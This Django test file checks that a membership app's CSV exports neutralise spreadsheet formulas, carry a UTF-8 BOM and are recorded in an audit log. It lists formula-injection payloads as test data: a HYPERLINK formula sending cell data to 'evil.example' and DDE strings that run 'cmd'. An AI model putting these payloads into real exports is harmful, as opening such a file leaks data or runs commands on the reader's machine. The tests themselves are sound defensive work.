"""Every CSV export neutralises what a spreadsheet would run as a formula, starts
with a BOM so accents show, and is recorded (who, what, how many rows)."""

import csv
import io

import pytest
from django.urls import reverse

from members.models import Role
from organising.audit.models import AuditEntry
from organising.csvexport import BOM, neutralise
from organising.dues import services as dues_services

from .dues.conftest import make_schedule

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1dHYPERLINK(1)",
]
KEPT = [
    "+33 6 12 34 56 78",
    "+33 (0)6 12 34 56 78",
    "+33612345678",
    "06 12 34 56 78",
    "-75.00",
    "-75,00",
    "-1 234,50",
    "Lyon 3e",
    "Émilie Dupont-Martin",
    "",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_are_shown_as_text(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", KEPT)
def test_numbers_phones_and_names_stay_readable(value):
    assert neutralise(value) == value


def test_non_text_cells():
    assert neutralise(None) == "" and neutralise(-75) == "-75" and neutralise(3) == "3"


def _cells(response) -> list[list[str]]:
    raw = response.content.decode("utf-8")
    assert raw.startswith(BOM)
    sample = raw[1:]
    delimiter = ";" if sample.split("\n", 1)[0].count(";") else ","
    return list(csv.reader(io.StringIO(sample), delimiter=delimiter))


def _assert_no_formula(cells: list[list[str]]) -> None:
    for row in cells:
        for cell in row:
            assert not cell or cell[0] not in "=+@\t\r" or cell.startswith("+33"), cell


def test_members_export_neutralises_profile_fields_and_unit_names(
    tree, make_member, section_secretary, client_as
):
    tree.cell_a1x.name = "@SUM(1+9)*cmd|' /C calc'!A0"
    tree.cell_a1x.save()
    make_member(
        tree.cell_a1x,
        display_name=FORMULAS[0],
        phone="+33 6 12 34 56 78",
        commune="\t=1+1",
    )
    make_member(tree.cell_a1x, display_name="Zoé Élan", phone="+cmd|' /C calc'!A0")

    response = client_as(section_secretary).get(
        reverse("members:unit_members_export", args=[tree.section_a1.slug])
    )

    cells = _cells(response)
    _assert_no_formula(cells)
    flat = [cell for row in cells for cell in row]
    assert "'" + FORMULAS[0] in flat
    assert "+33 6 12 34 56 78" in flat  # the phone stays readable
    assert "'\t=1+1" in flat and "'+cmd|' /C calc'!A0" in flat
    assert "'@SUM(1+9)*cmd|' /C calc'!A0" in flat
    assert "Zoé Élan" in flat  # accents come through (the BOM says UTF-8)
    entry = AuditEntry.objects.get(action="csv.export")
    assert entry.actor == section_secretary and entry.unit == tree.section_a1
    assert entry.data == {
        "what": "members",
        "rows": len(cells),
        "filename": f"members-{tree.section_a1.slug}.csv",
    }


def test_dues_report_export_neutralises_member_and_unit_names(
    tree, make_member, client_as
):
    treasurer = make_member(tree.cell_a1x, roles=[(tree.cell_a1x, Role.Kind.TREASURER)])
    national = make_member(tree.cell_b1x, roles=[(tree.national, Role.Kind.TREASURER)])
    make_schedule(national)
    make_member(tree.cell_a1x, display_name='=HYPERLINK("http://x")')
    tree.fed_a.name = "+cmd|' /C calc'!A0"
    tree.fed_a.save()
    dues_services.charges_issue()

    cell = client_as(treasurer).get(
        reverse("dues:report_csv", args=[tree.cell_a1x.slug])
    )
    top = client_as(national).get(reverse("dues:report_csv", args=[tree.national.slug]))

    for response in (cell, top):
        _assert_no_formula(_cells(response))
    assert '\'=HYPERLINK(""http://x"")' in cell.content.decode()
    assert "'+cmd|' /C calc'!A0" in top.content.decode()
    recorded = AuditEntry.objects.filter(action="csv.export").order_by("pk")
    assert [(e.actor, e.data["what"]) for e in recorded] == [
        (treasurer, "dues.report"),
        (national, "dues.report"),
    ]
    assert recorded[1].data["rows"] == len(_cells(top))
